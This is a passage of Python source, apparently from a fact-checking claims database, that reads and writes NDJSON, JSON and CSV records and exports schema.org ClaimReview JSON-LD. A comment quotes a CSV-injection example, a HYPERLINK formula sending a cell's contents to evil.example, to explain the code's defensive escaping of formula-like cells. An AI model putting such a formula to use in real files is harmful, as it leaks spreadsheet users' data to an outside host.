# written as two escapes, "\ud83d\ude00"; 4 in UTF-8 unescaped). A record gives at most its claim's
# source's text and a review's, with room to spare for the rest: a record (an NDJSON line, a JSON array
# element, a CSV row) longer than this cannot be valid, and is refused without being held in memory.
# (A stream of text, rather than bytes, is measured in characters.)
JSON_BYTES_PER_CHARACTER = 12
RECORD_MAX_BYTES = 2 * JSON_BYTES_PER_CHARACTER * SOURCE_TEXT_MAX_LENGTH + (1 << 20)
JSON_MAX_DEPTH = 1024  # orjson's: a record nested deeper is refused (a valid one is six levels deep)
_SKIP_CHUNK = 1 << 16  # bytes read at a time past the end of a record that is too long
_BOM = b"\xef\xbb\xbf"


def _too_large(limit: int = RECORD_MAX_BYTES) -> str:
    return (f"This record is longer than any valid record can be (more than {limit:,} bytes): it was not read. "
            f"A source's text is given once a file (or read from a text_file).")


class _Unreadable(Exception):
    """The rest of a file cannot be read from here on: ``line`` and why."""

    def __init__(self, line: int, message: str):
        super().__init__(message)
        self.line, self.message = line, message


class _EncodedText:
    """A text stream (``io.StringIO``) read as the bytes of its text in UTF-8; a lone surrogate in it
    stays one (``surrogatepass``), to be refused as a record's other mistakes are."""

    def __init__(self, stream):
        self.stream = stream

    def readline(self, limit: int) -> bytes:
        return self.stream.readline(limit).encode("utf-8", "surrogatepass")

    def read(self, size: int) -> bytes:
        return self.stream.read(size).encode("utf-8", "surrogatepass")


def _binary(stream):
    return _EncodedText(stream) if isinstance(stream, io.TextIOBase) else stream


def _readline(stream, limit: int, line: int) -> bytes:
    try:
        return stream.readline(limit)
    except UnicodeDecodeError as exc:  # a text stream whose bytes are not its encoding's
        raise _Unreadable(line, f"Not UTF-8 text ({exc.reason}): the rest of the file was not read.") from None


def _lines(stream, limit: int = RECORD_MAX_BYTES) -> Iterator[tuple[int, bytes | None]]:
    """``(number, line)`` for each line of a binary stream; the line is None when it is longer than
    ``limit`` bytes: it is then read to its end a piece at a time, and not kept."""
    number = 0
    while True:
        line = _readline(stream, limit + 1, number + 1)
        if not line:
            return
        number += 1
        if number == 1 and line.startswith(_BOM):
            line = line[len(_BOM):]
        if len(line) > limit and not line.endswith(b"\n"):
            while line and not line.endswith(b"\n"):
                line = _readline(stream, _SKIP_CHUNK, number)
            yield number, None
            continue
        yield number, line


def _not_utf8(data: bytes, error: UnicodeDecodeError, column: int = 1) -> tuple[int, str]:
    """Where in ``data`` (a line within it, from 0) the bytes that are not UTF-8 are, and a message.
    ``column``: where ``data`` starts on its first line."""
    start = error.start
    line, line_start = data.count(b"\n", 0, start), data.rfind(b"\n", 0, start) + 1
    at = len(data[line_start:start].decode("utf-8", "replace")) + 1 + (column - 1 if line == 0 else 0)
    what = "a lone surrogate" if data[start] == 0xED and error.reason == "invalid continuation byte" else \
        f"the byte 0x{data[start]:02x}"
    return line, f"Not UTF-8 text: {what} at column {at} ({error.reason})."


def _json_problem(data: bytes, error: orjson.JSONDecodeError, column: int = 1) -> tuple[int, str]:
    """Why ``data`` (one record, or one line of NDJSON) is not valid JSON: the line within it (from 0)
    and a message. In the standard library's words where it finds the mistake too (they say what was
    expected: "Expecting ',' delimiter"), else in orjson's (a lone surrogate, NaN, a number too large).
    ``column``: where ``data`` starts on its first line."""
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as exc:
        return _not_utf8(data, exc, column)
    if error.msg == "depth limit exceeded":
        return error.lineno - 1, f"Nested too deeply: more than {JSON_MAX_DEPTH} levels of lists and objects."
    line, at, message = error.lineno - 1, error.colno, error.msg
    try:
        json.loads(text, parse_constant=_no_constant)
    except json.JSONDecodeError as exc:
        line, at, message = exc.lineno - 1, exc.colno, exc.msg
    except (ValueError, RecursionError):  # NaN, a number too long for it, nested too deeply for it
        pass
    return line, f"Not valid JSON: {message} (column {at + (column - 1 if line == 0 else 0)})."


def _no_constant(name: str):
    raise ValueError(f"{name} is not a JSON value")


def read_records(stream, fmt: str) -> Iterator[tuple[int, Any]]:
    """``(line, record)`` for each record of a stream (binary, or text): a dict as read (not yet
    checked), or a ``Problem`` when the record cannot even be read (broken JSON, bytes that are not
    UTF-8, a record longer than ``RECORD_MAX_BYTES``, a wrong CSV header or row). Only what cannot be
    read past ends the reading of a file early, with a problem that says so (a JSON file whose brackets
    do not match, a CSV row that cannot be read); nothing else is raised."""
    stream = _binary(stream)
    if fmt == "ndjson":
        yield from _read_ndjson(stream)
    elif fmt == "json":
        yield from _read_json(stream)
    elif fmt == "csv":
        yield from _read_csv_lines(stream)
    else:
        raise ValueError(f"Unknown format {fmt!r}.")


def _read_ndjson(stream) -> Iterator[tuple[int, Any]]:
    try:
        for number, line in _lines(stream):
            if line is None:
                yield number, Problem(number, "", _too_large())
                continue
            if not line.strip():
                continue
            try:
                yield number, orjson.loads(line)
            except orjson.JSONDecodeError as exc:
                yield number, Problem(number, "", _json_problem(line, exc)[1])
    except _Unreadable as exc:
        yield exc.line, Problem(exc.line, "", exc.message)


class _CsvLines:
    """The lines of a CSV file as text, for ``csv.reader``: a row (from ``row_start``, reset by
    ``next_row``) longer than ``RECORD_MAX_BYTES``, or bytes that are not UTF-8, end the reading
    (``_Unreadable``): where the next row begins cannot be known past them."""

    def __init__(self, stream):
        self.stream, self.number, self.size, self.row_start = stream, 0, 0, 1

    def __iter__(self):
        return self

    def next_row(self) -> None:
        self.size, self.row_start = 0, self.number + 1

    def __next__(self) -> str:
        line = _readline(self.stream, RECORD_MAX_BYTES + 1, self.number + 1)
        if not line:
            raise StopIteration
        self.number += 1
        if self.number == 1 and line.startswith(_BOM):
            line = line[len(_BOM):]
        self.size += len(line)
        if self.size > RECORD_MAX_BYTES:
            raise _Unreadable(self.row_start, _too_large() + " The rest of the file was not read.")
        try:
            return line.decode("utf-8")
        except UnicodeDecodeError as exc:
            raise _Unreadable(self.number, _not_utf8(line, exc)[1] + " The rest of the file was not read.") \
                from None


def _read_csv_lines(stream) -> Iterator[tuple[int, Any]]:
    lines = _CsvLines(stream)
    try:
        for line, record in _read_csv(lines):
            lines.next_row()
            yield line, record
    except _Unreadable as exc:
        yield exc.line, Problem(exc.line, "", exc.message)
    except ValueError as exc:  # a cell that the row's reading could not convert (csv_row_to_record)
        line = lines.row_start
        yield line, Problem(line, "", f"This row cannot be read ({_shown(str(exc), 200)}): the rest of the file "
                                      f"was not read.")


class _JsonDocument:
    """A JSON file read a block at a time: ``_read_json`` walks the list of records (or the object with
    ``"claims"``) here, and each element is cut out by its brackets and quotes and parsed on its own.
    So no element is held beyond ``RECORD_MAX_BYTES`` (a longer one is read past), and an element that
    is not valid JSON is reported and the next one read; only brackets that do not match (or the end
    of the file inside a value) stop the reading. An element alone on the rest of its line (as
    exports write them) is parsed at once."""

    BLOCK = 1 << 16
    _NOT_SPACE = re.compile(rb"[^ \t\r\n]")
    # Outside a text: all up to the next bracket, whole texts included (it stops at the quote of a
    # text that the block ends inside). Inside a text: the rest of it (its closing quote captured).
    _PASS = re.compile(rb'(?:[^"\[\]{}]++|"[^"\\]*+(?:\\.[^"\\]*+)*+")*+')
    _REST_OF_TEXT = re.compile(rb'[^"\\]*+(?:\\.[^"\\]*+)*+(")?')
    _SCALAR_END = re.compile(rb'[ \t\r\n,:\[\]{}"]')
    _CLOSING = {ord("["): ord("]"), ord("{"): ord("}")}
    _QUOTE = ord('"')

    def __init__(self, stream):
        self.stream = stream
        self.buf, self.pos, self.eof = b"", 0, False
        self.line, self.counted = 1, 0  # the line at buf[counted]
        self.carried = 0  # bytes of the line at buf[0] that were in earlier blocks

    def _next_block(self) -> bool:
        if self.eof:
            return False
        buf = self.buf
        self.line += buf.count(b"\n", self.counted)
        last = buf.rfind(b"\n")
        self.carried = len(buf) - last - 1 + (self.carried if last < 0 else 0)
        try:
            block = self.stream.read(self.BLOCK)
        except UnicodeDecodeError as exc:  # a text stream whose bytes are not its encoding's
            raise _Unreadable(self.line, f"Not UTF-8 text ({exc.reason}): the rest of the file was not read.") \
                from None
        if not buf and self.line == 1 and block.startswith(_BOM):
            block = block[len(_BOM):]
        self.buf, self.pos, self.counted, self.eof = block, 0, 0, not block
        return not self.eof

    def line_at(self, pos: int) -> int:
        self.line += self.buf.count(b"\n", self.counted, pos)
        self.counted = pos
        return self.line

    def column_at(self, pos: int) -> int:
        start = self.buf.rfind(b"\n", 0, pos) + 1
        return len(self.buf[start:pos].decode("utf-8", "replace")) + 1 + (self.carried if start == 0 else 0)

    def peek(self) -> int | None:
        """The next byte that is not white space (not taken); None at the end of the file."""
        while True:
            found = self._NOT_SPACE.search(self.buf, self.pos)
            if found:
                self.pos = found.start()
                return self.buf[self.pos]
            self.pos = len(self.buf)
            if not self._next_block():
                return None

    def fail(self, message: str) -> _Unreadable:
        line, column = self.line_at(self.pos), self.column_at(self.pos)
        return _Unreadable(line, f"Not valid JSON: {message} (column {column}). The rest of the file was not read.")

    def take(self, char: str) -> None:
        if self.peek() != ord(char):
            raise self.fail(f"Expecting '{char}'" + (" delimiter" if char == "," else ""))
        self.pos += 1

    def value(self, keep: bool = True) -> tuple[int, int, bytes | None]:
        """The next value: the line and column where it starts, and its bytes (None when not kept, or
        longer than ``RECORD_MAX_BYTES``: read to its end, and not held)."""
        first = self.peek()
        if first is None:
            raise self.fail("Expecting value")
        line, column = self.line_at(self.pos), self.column_at(self.pos)
        parts, size = [], 0
        levels = bytearray()  # the closing bracket each open level waits for
        scalar = first not in b'[{"'
        # a text (the value itself, or one that a block ends inside) is read on with its rest; its
        # opening quote, or a byte escaped across blocks, is stepped over first
        in_text, step = first == self._QUOTE, 1 if first == self._QUOTE else 0
        while True:
            buf, pos, end = self.buf, self.pos + step, None
            step = 0
            if scalar:
                found = self._SCALAR_END.search(buf, pos)
                end = found.start() if found else None
            else:
                if in_text:
                    rest = self._REST_OF_TEXT.match(buf, pos)
                    pos = rest.end()
                    if rest.group(1) is not None:
                        in_text = False
                        if not levels:
                            end = pos
                    elif pos < len(buf):  # stopped at a backslash that ends the block
                        pos, step = len(buf), 1
                while not in_text and end is None:
                    pos = self._PASS.match(buf, pos).end()
                    if pos == len(buf):
                        break
                    char = buf[pos]
                    if char == self._QUOTE:  # a text that goes on into the next block
                        rest = self._REST_OF_TEXT.match(buf, pos + 1)
                        in_text, step, pos = True, int(rest.end() < len(buf)), len(buf)
                        break
                    if char in self._CLOSING:
                        levels.append(self._CLOSING[char])
                    elif not levels or levels.pop() != char:
                        self.pos = pos
                        raise self.fail(f"'{chr(char)}' closes nothing here")
                    pos += 1
                    if not levels:
                        end = pos
            stop = len(buf) if end is None else end
            size += stop - self.pos
            if keep and size <= RECORD_MAX_BYTES:
                parts.append(buf[self.pos:stop])
            elif parts:
                parts = []
            self.pos = stop
            if end is not None or (not self._next_block() and scalar):
                kept = keep and size <= RECORD_MAX_BYTES
                return line, column, b"".join(parts) if kept else None
            if self.eof:
                raise self.fail("The file ends inside a value")

    def _alone_on_its_line(self):
        """The element that begins here when it is an object alone on the rest of its line (then
        perhaps a comma, or the list's end), else None."""
        buf, start = self.buf, self.pos
        if buf[start] != ord("{"):
            return None
        end = buf.find(b"\n", start)
        if end < 0:
            return None  # the line goes on in the next block: value() reads it
        while buf[end - 1] in b" \t\r\n":
            end -= 1
        if buf[end - 1] in b",]":
            end -= 1
        if end <= start or buf[end - 1] != ord("}"):
            return None
        try:
            value = orjson.loads(buf[start:end])
        except orjson.JSONDecodeError:
            return None  # read again by value(), which says what is wrong
        self.pos = end
        return value

    def elements(self) -> Iterator[tuple[int, Any]]:
        """The elements of the list that begins here, each as read or as a ``Problem``."""
        self.take("[")
        if self.peek() == ord("]"):
            self.pos += 1
            return
        while True:
            if self.peek() is None:
                raise self.fail("Expecting value")
            line = self.line_at(self.pos)
            record = self._alone_on_its_line()
            if record is not None:
                yield line, record
            else:
                line, column, data = self.value()
                if data is None:
                    yield line, Problem(line, "", _too_large())
                else:
                    try:
                        yield line, orjson.loads(data)
                    except orjson.JSONDecodeError as exc:
                        offset, message = _json_problem(data, exc, column)
                        yield line + offset, Problem(line + offset, "", message)
            char = self.peek()
            if char == ord("]"):
                self.pos += 1
                return
            self.take(",")


def _read_json(stream) -> Iterator[tuple[int, Any]]:
    document = _JsonDocument(stream)
    try:
        first = document.peek()
        if first == ord("["):
            yield from document.elements()
        elif first == ord("{"):
            document.pos += 1
            found = False
            if document.peek() == ord("}"):
                document.pos += 1
            else:
                while True:
                    if document.peek() != ord('"'):
                        raise document.fail("Expecting property name enclosed in double quotes")
                    key_line, _, data = document.value()
                    key = orjson.loads(data) if data is not None else "…"
                    document.take(":")
                    if key == "claims" and document.peek() == ord("["):
                        yield from document.elements()
                        found = True
                    elif key == "about":
                        document.value(keep=False)
                    else:
                        what = ("Give the claims as a list." if key == "claims" else
                                "Unknown field. A JSON file is a list of claims, or an object with \"claims\" "
                                "(a list) and \"about\" (a text).")
                        yield key_line, Problem(key_line, _shown(key), what)
                        return
                    if document.peek() == ord("}"):
                        document.pos += 1
                        break
                    document.take(",")
            if not found:
                yield 1, Problem(1, "claims", "The object has no \"claims\" list.")
                return
        else:
            yield 1, Problem(1, "", "A JSON file is a list of claims, or an object with \"claims\".")
            return
        if document.peek() is not None:
            line = document.line_at(document.pos)
            yield line, Problem(line, "", "Not valid JSON: extra data after the end of the document.")
    except orjson.JSONDecodeError as exc:  # a key that is not a valid text
        line = document.line_at(document.pos)
        yield line, Problem(line, "", f"Not valid JSON: {exc.msg}. The rest of the file was not read.")
    except _Unreadable as exc:
        yield exc.line, Problem(exc.line, "", exc.message)


def split_list(cell: str) -> list[str]:
    """A CSV cell of several values: ``a|b`` is two; ``\\|`` is a ``|`` and ``\\\\`` a backslash within one."""
    if cell == "":
        return []
    items, current, escaped = [], [], False
    for char in cell:
        if escaped:
            current.append(char)
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == LIST_SEPARATOR:
            items.append("".join(current))
            current = []
        else:
            current.append(char)
    if escaped:
        current.append("\\")
    items.append("".join(current))
    return items


def join_list(items: Iterable[str]) -> str:
    return LIST_SEPARATOR.join(item.replace("\\", "\\\\").replace(LIST_SEPARATOR, "\\" + LIST_SEPARATOR)
                               for item in items)


# Spreadsheets run a cell that begins with = + - @ (and, in some, a tab or a carriage return before one)
# as a formula: a claim's text such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run on
# the reader's machine (OWASP, "CSV Injection"). Every CSV Factbase writes therefore prefixes such a cell
# with an apostrophe, which spreadsheets read as "this cell is text". To round-trip, a value that itself
# begins with the apostrophe followed by one of those characters or by another apostrophe gets one too,
# and reading a CSV drops the first apostrophe of a cell that begins with an apostrophe and then one of
# them. Any other cell is read as written: ``'Tis`` is ``'Tis``.
CSV_FORMULA_STARTS = frozenset("=+-@\t\r")
CSV_TEXT_PREFIX = "'"
_CSV_ESCAPED_STARTS = CSV_FORMULA_STARTS | {CSV_TEXT_PREFIX}
_CSV_SUSPECT_STARTS = tuple(_CSV_ESCAPED_STARTS)


def csv_escape_cell(value: str) -> str:
    """A value as a CSV cell that no spreadsheet runs as a formula (see ``CSV_FORMULA_STARTS``)."""
    if value.startswith(_CSV_SUSPECT_STARTS) and (value[0] != CSV_TEXT_PREFIX or value[1:2] in _CSV_ESCAPED_STARTS):
        return CSV_TEXT_PREFIX + value
    return value


def csv_unescape_cell(cell: str) -> str:
    """The value a CSV cell stands for: ``csv_escape_cell`` undone; any other cell as written."""
    if cell.startswith(CSV_TEXT_PREFIX) and cell[1:2] in _CSV_ESCAPED_STARTS:
        return cell[1:]
    return cell


def _read_csv(stream) -> Iterator[tuple[int, Any]]:
    reader = csv.reader(stream)
    try:
        header = next(reader)
    except StopIteration:
        return
    except csv.Error as exc:
        yield 1, Problem(1, "", f"Not valid CSV: {exc}.")
        return
    if header and header[0].startswith("\ufeff"):
        header[0] = header[0][1:]
    unknown = [name for name in header if name not in CSV_KNOWN_COLUMNS]
    given = {CSV_COLUMNS_V1_BY_NAME.get(name, name) for name in header}
    missing = [name for name in CSV_REQUIRED if name not in given]
    repeated = sorted({name for name in header if header.count(name) > 1})
    if unknown or missing or repeated:
        parts = []
        if unknown:
            parts.append(f"unknown column(s): {', '.join(_shown(name) for name in unknown[:20])}")
        if missing:
            parts.append(f"missing column(s): {', '.join(missing)}")
        if repeated:
            parts.append(f"repeated column(s): {', '.join(_shown(name) for name in repeated[:20])}")
        yield 1, Problem(1, "header", f"Wrong header ({'; '.join(parts)}). The columns are: {', '.join(CSV_COLUMNS)} "
                                      f"(or, in version 2 of the format: {', '.join(CSV_COLUMNS_V2)}).")
        return
    # Columns given under both names (version 1 and 2): a row must give them the same value.
    both = [(old, new) for old, new in CSV_COLUMNS_V2_BY_V1.items() if old in header and new in header]
    try:
        for row in reader:
            line = reader.line_num
            if not any(cell.strip() for cell in row):
                continue
            if len(row) != len(header):
                yield line, Problem(line, "", f"This row has {len(row)} cells; the header has {len(header)}.")
                continue
            cells = dict(zip(header, map(csv_unescape_cell, row)))
            conflicts = [(old, new) for old, new in both if cells[old] != cells[new]]
            if conflicts:
                old, new = conflicts[0]
                yield line, Problem(line, new, f"Give {new} or {old} (its name in version 1 of the format), not both "
                                               f"with different values.")
                continue
            yield line, csv_row_to_record({CSV_COLUMNS_V1_BY_NAME.get(name, name): value
                                           for name, value in cells.items()})
    except csv.Error as exc:
        yield reader.line_num, Problem(reader.line_num, "", f"Not valid CSV: {exc}.")


def csv_row_to_record(row: dict[str, str]) -> dict[str, Any]:
    """A CSV row as a record. An empty cell of a related record's detail (aliases, kind, language,
    ...) says nothing about it; an empty cell of the claim's own fields is empty."""
    def cell(name):
        return row.get(name, "")

    record: dict[str, Any] = {"text": cell("text"), "kind": cell("kind") or "direct_quote"}
    if cell("uid"):
        record["uid"] = cell("uid")
    speaker = {"name": cell("speaker"), "kind": cell("speaker_kind")}
    if cell("speaker_aliases"):
        speaker["aliases"] = split_list(cell("speaker_aliases"))
    for column, key in (("speaker_description", "description"), ("speaker_wikidata_id", "wikidata_id")):
        if cell(column):
            speaker[key] = cell(column)
    if not speaker["name"] and speaker.get("wikidata_id"):
        del speaker["name"]
    if not speaker["kind"]:
        del speaker["kind"]
    record["speaker"] = speaker
    record["speaker_role"] = cell("speaker_role")
    record["stated_on"] = cell("stated_on") or None
    record["stated_on_precision"] = cell("stated_on_precision")
    if cell("outlet"):
        record["outlet"] = {"name": cell("outlet")}
        if cell("outlet_kind"):
            record["outlet"]["kind"] = cell("outlet_kind")
    else:
        record["outlet"] = None
    source: dict[str, Any] = {"url": cell("source_url"), "title": cell("source_title"),
                              "published_on": cell("source_published_on") or None}
    if cell("source_language"):
        source["language"] = cell("source_language")
    if cell("source_authors"):
        source["authors"] = split_list(cell("source_authors"))
    if cell("source_outlet"):
        source["outlet"] = {"name": cell("source_outlet")}
    record["source"] = source
    if cell("span_start") or cell("span_end") or cell("span_exact"):
        span: dict[str, Any] = {"exact": cell("span_exact")}
        for key in ("start", "end"):
            value = cell(f"span_{key}")
            span[key] = int(value) if ASCII_DIGITS.fullmatch(value) else value  # "²".isdigit(), but int("²") fails
        record["span"] = span
    if cell("status"):
        record["status"] = cell("status")
    if "status_note" in row and (cell("status_note") or cell("status")):
        record["status_note"] = cell("status_note")
    if "tags" in row:
        record["tags"] = split_list(cell("tags"))
    if "relations" in row:
        record["relations"] = [dict(zip(RELATION_KEYS, item.split(":", 1))) if ":" in item else item
                               for item in split_list(cell("relations"))]
    return record


# --- writing -------------------------------------------------------------------------------------

def _iso(value) -> str | None:
    return value.isoformat() if value is not None else None


def actor_record(actor) -> dict[str, Any]:
    return {"name": actor.name, "kind": actor.kind, "aliases": list(actor.aliases), "description": actor.description,
            "wikidata_id": actor.wikidata_id}


def outlet_record(outlet) -> dict[str, Any] | None:
    if outlet is None:
        return None
    return {"name": outlet.name, "kind": outlet.kind, "url": outlet.url, "description": outlet.description}


def source_record(source, *, text: str | None = None) -> dict[str, Any]:
    """A source; its ``text`` only when given (exports give it with the first claim of each source)."""
    record = {"url": source.url, "title": source.title, "published_on": _iso(source.published_on),
              "language": source.language, "authors": list(source.authors), "outlet": outlet_record(source.outlet)}
    if text is not None:
        record["text"] = text
    return record


def tag_record(tag) -> dict[str, Any]:
    return {"slug": tag.slug, "name": tag.name, "description": tag.description}


def review_record(review, *, source_text: str | None = None) -> dict[str, Any]:
    return {
        "rating": review.rating, "rating_text": review.rating_text, "summary": review.summary,
        "reviewed_on": _iso(review.reviewed_on),
        "reviewer": actor_record(review.reviewer) if review.reviewer is not None else None,
        "source": source_record(review.source, text=source_text) if review.source is not None else None,
    }


def claim_record(claim, *, tags, reviews, relations=(), source_texts: dict[int, str] | None = None) -> dict[str, Any]:
    """A claim as a record. Reads only attributes: the caller has fetched the claim's speaker, outlet,
    source (with its outlet), ``tags`` and ``reviews`` (with their reviewer and source), and ``relations``
    (``(type as the claim sees it, the other claim's uid)`` pairs).
    ``source_texts`` maps a source's id to the text to give with it (absent: not given)."""
    source_texts, given = source_texts or {}, set()

    def text_of(source_id):  # a source's text once a record, with its first mention
        if source_id in source_texts and source_id not in given:
            given.add(source_id)
            return source_texts[source_id]
        return None

    span = None
    if claim.span_start is not None:
        span = {"start": claim.span_start, "end": claim.span_end, "exact": claim.span_exact}
    return {
        "uid": str(claim.uid),
        "text": claim.text,
        "kind": claim.kind,
        "speaker": actor_record(claim.speaker),
        "speaker_role": claim.speaker_role,
        "stated_on": _iso(claim.stated_on),
        "stated_on_precision": claim.stated_on_precision,
        "outlet": outlet_record(claim.outlet),
        "source": source_record(claim.source, text=text_of(claim.source_id)),
        "span": span,
        "status": claim.status,
        "status_note": claim.status_note,
        "tags": [tag_record(tag) for tag in tags],
        "reviews": [review_record(review, source_text=text_of(review.source_id)) for review in reviews],
        "relations": [{"type": relation_type, "claim": str(uid)} for relation_type, uid in relations],
    }


def record_to_csv_row(record: dict[str, Any]) -> list[str]:
    """A record (as ``claim_record`` makes it) as a CSV row in ``CSV_COLUMNS`` order."""
    speaker, outlet, source, span = record["speaker"], record["outlet"], record["source"], record["span"]
    values = {
        "uid": record["uid"], "text": record["text"], "kind": record["kind"],
        "speaker": speaker["name"], "speaker_kind": speaker["kind"], "speaker_aliases": join_list(speaker["aliases"]),
        "speaker_description": speaker["description"], "speaker_wikidata_id": speaker["wikidata_id"],
        "speaker_role": record["speaker_role"], "stated_on": record["stated_on"] or "",
        "stated_on_precision": record["stated_on_precision"],
        "outlet": outlet["name"] if outlet else "", "outlet_kind": outlet["kind"] if outlet else "",
        "source_url": source["url"], "source_title": source["title"], "source_published_on": source["published_on"] or "",
        "source_language": source["language"], "source_authors": join_list(source["authors"]),
        "source_outlet": source["outlet"]["name"] if source["outlet"] else "",
        "span_start": str(span["start"]) if span else "", "span_end": str(span["end"]) if span else "",
        "span_exact": span["exact"] if span else "",
        "status": record["status"], "status_note": record["status_note"],
        "tags": join_list(tag["slug"] for tag in record["tags"]),
        "relations": join_list(f"{relation['type']}:{relation['claim']}" for relation in record["relations"]),
    }
    return [values[column] for column in CSV_COLUMNS]


def _renamed_keys(obj: dict[str, Any] | None, renames: dict[str, str]) -> dict[str, Any] | None:
    return None if obj is None else {renames.get(key, key): value for key, value in obj.items()}


def _source_v2(source: dict[str, Any] | None) -> dict[str, Any] | None:
    source = _renamed_keys(source, V2_KEYS["source"])
    if source is not None and source.get("outlet") is not None:
        source["outlet"] = _renamed_keys(source["outlet"], V2_KEYS["outlet"])
    return source


def respelled(record: dict[str, Any], spelling: str = "v1") -> dict[str, Any]:
    """A record (as ``claim_record`` makes it) in ``spelling``: "v1" as it is, "v2" with the source's
    ``document_url`` and the outlets' ``website`` (the claim's, its source's, its reviews' sources')."""
    if spelling == "v1":
        return record
    if spelling != "v2":
        raise ValueError(f"Unknown spelling {spelling!r}.")
    record = dict(record)
    record["outlet"] = _renamed_keys(record.get("outlet"), V2_KEYS["outlet"])
    record["source"] = _source_v2(record.get("source"))
    if record.get("reviews"):
        record["reviews"] = [{**review, "source": _source_v2(review.get("source"))} for review in record["reviews"]]
    return record


def csv_columns(spelling: str = "v1") -> tuple[str, ...]:
    """The header of a CSV in ``spelling`` (its rows are ``record_to_csv_row``'s, whichever the spelling)."""
    return CSV_COLUMNS_V2 if spelling == "v2" else CSV_COLUMNS


def ndjson_line(record: dict[str, Any]) -> bytes:
    return orjson.dumps(record) + b"\n"


def csv_lines(rows: Iterable[list[str]]) -> str:
    """Rows of text as CSV (RFC 4180, CRLF), each cell neutralised for spreadsheets (``csv_escape_cell``)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    suspect = _CSV_SUSPECT_STARTS
    writer.writerows([csv_escape_cell(cell) if cell.startswith(suspect) else cell for cell in row] for row in rows)
    return out.getvalue()


# --- schema.org ClaimReview ----------------------------------------------------------------------

SCHEMA_ORG = "https://schema.org"

# JSON-LD is meant to be embedded in an HTML page, inside ``<script type="application/ld+json">``, where
# ``</script>`` or ``<!--`` in a string would end the script or open a comment, and U+2028/U+2029 end a
# line of JavaScript. In JSON these characters only occur inside strings (never between tokens), so
# writing each as its ``\uXXXX`` escape keeps the document valid JSON that decodes to the same data
# (what Django's ``json_script`` does for ``<``, ``>`` and ``&``). UTF-8 never has these bytes inside
# another character, so replacing the bytes is exact.
_HTML_SAFE_JSON = ((b"<", b"\\u003c"), (b">", b"\\u003e"), (b"&", b"\\u0026"),
                   ("\u2028".encode(), b"\\u2028"), ("\u2029".encode(), b"\\u2029"))


def html_safe_json(encoded: bytes) -> bytes:
    """JSON text (UTF-8) with ``<``, ``>``, ``&``, U+2028 and U+2029 escaped, safe inside an HTML ``<script>``."""
    for raw, escaped in _HTML_SAFE_JSON:
        if raw in encoded:
            encoded = encoded.replace(raw, escaped)
    return encoded


def jsonld_dumps(document) -> bytes:
    """A JSON-LD document as UTF-8 bytes, safe to embed in HTML (``html_safe_json``)."""
    return html_safe_json(orjson.dumps(document))


# The five verdicts on the scale, from worst (1) to best (5). "unsupported" and "misleading" are off
# the scale: they have no ratingValue (Google: a ratingValue must lie between worstRating and
# bestRating), only their wording.
RATING_VALUES = {"false": 1, "mostly_false": 2, "mixed": 3, "mostly_true": 4, "true": 5}
RATING_LABELS = {"false": "False", "mostly_false": "Mostly false", "mixed": "Mixed", "mostly_true": "Mostly true",
                 "true": "True", "unsupported": "Unsupported (no evidence)", "misleading": "Misleading"}
BEST_RATING, WORST_RATING = 5, 1


def _jsonld_date(value, precision: str = "day") -> str | None:
    """An ISO 8601 date as precise as it is known: 2022-01-07, 2022-01 or 2022."""
    if value is None:
        return None
    if precision == "year":
        return f"{value.year:04d}"
    if precision == "month":
        return f"{value.year:04d}-{value.month:02d}"
    return value.isoformat()


def _drop_empty(obj: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in obj.items() if v not in (None, "", [], {})}


def jsonld_actor(actor) -> dict[str, Any] | None:
    if actor is None:
        return None
    return _drop_empty({
        "@type": "Person" if actor.kind == "person" else "Organization",
        "name": actor.name,
        "alternateName": list(actor.aliases),
        "sameAs": f"https://www.wikidata.org/wiki/{actor.wikidata_id}" if actor.wikidata_id else None,
    })


def jsonld_organization(outlet) -> dict[str, Any] | None:
    if outlet is None:
        return None
    return _drop_empty({"@type": "Organization", "name": outlet.name, "url": outlet.url})


def jsonld_creative_work(source) -> dict[str, Any] | None:
    """A source as the CreativeWork where a claim appeared (only what the source gives)."""
    if source is None:
        return None
    return _drop_empty({
        "@type": "CreativeWork",
        "url": source.url,
        "name": source.title,
        "datePublished": _jsonld_date(source.published_on),
        "inLanguage": source.language,
        "author": [{"@type": "Person", "name": name} for name in source.authors],
        "publisher": jsonld_organization(source.outlet),
    })


def claim_review_jsonld(review, *, review_url: str | None = None, claim_url: str | None = None,
                        context: bool = True) -> dict[str, Any]:
    """A review as a schema.org ClaimReview. Nothing is made up: what is not known is left out (a review
    whose reviewer is not named has no ``author``; one published without a known URL has no ``url``).

    Reads the review's claim (with its speaker and source, and the source's outlet), reviewer and
    source (with its outlet); the caller fetches them.
    """
    claim = review.claim
    rating = _drop_empty({
        "@type": "Rating",
        "ratingValue": RATING_VALUES.get(review.rating),
        "bestRating": BEST_RATING if review.rating in RATING_VALUES else None,
        "worstRating": WORST_RATING if review.rating in RATING_VALUES else None,
        "name": RATING_LABELS[review.rating],
        "alternateName": review.rating_text or RATING_LABELS[review.rating],
    })
    item = _drop_empty({
        "@type": "Claim",
        "@id": claim_url,
        "text": claim.text,
        "author": jsonld_actor(claim.speaker),
        "datePublished": _jsonld_date(claim.stated_on, claim.stated_on_precision),
        "appearance": jsonld_creative_work(claim.source),
    })
    published_in = review.source
    document = _drop_empty({
        "@context": SCHEMA_ORG if context else None,
        "@type": "ClaimReview",
        "@id": review_url,
        "url": published_in.url if published_in is not None else None,
        "claimReviewed": claim.text,
        "reviewRating": rating,
        "author": jsonld_actor(review.reviewer),
        "publisher": jsonld_organization(published_in.outlet) if published_in is not None else None,
        "datePublished": _jsonld_date(review.reviewed_on),
        "reviewBody": review.summary,
        "itemReviewed": item,
    })
    return document


# --- the record as a schema (OpenAPI 3.0's dialect of JSON Schema) --------------------------------

def _string(description: str, **extra) -> dict:
    return {"type": "string", "description": description, **extra}


def _limited(description: str, field: str, **extra) -> dict:
    """A text of at most ``MAX_LENGTHS[field]`` characters, as an import checks it."""
    return _string(description, maxLength=MAX_LENGTHS[field], **extra)


def _names_schema(description: str) -> dict:
    return {"type": "array", "items": {"type": "string", "maxLength": MAX_LENGTHS["name"]},
            "maxItems": NAMES_MAX_COUNT, "description": description}


ACTOR_SCHEMA = {
    "type": "object", "description": "An actor, known by its name and kind (or its Wikidata id).",
    "properties": {
        "name": _limited("The name it is best known by.", "actor.name"),
        "kind": _string("Person or organization.", enum=list(ACTOR_KINDS)),
        "aliases": _names_schema("Other names it goes by."),
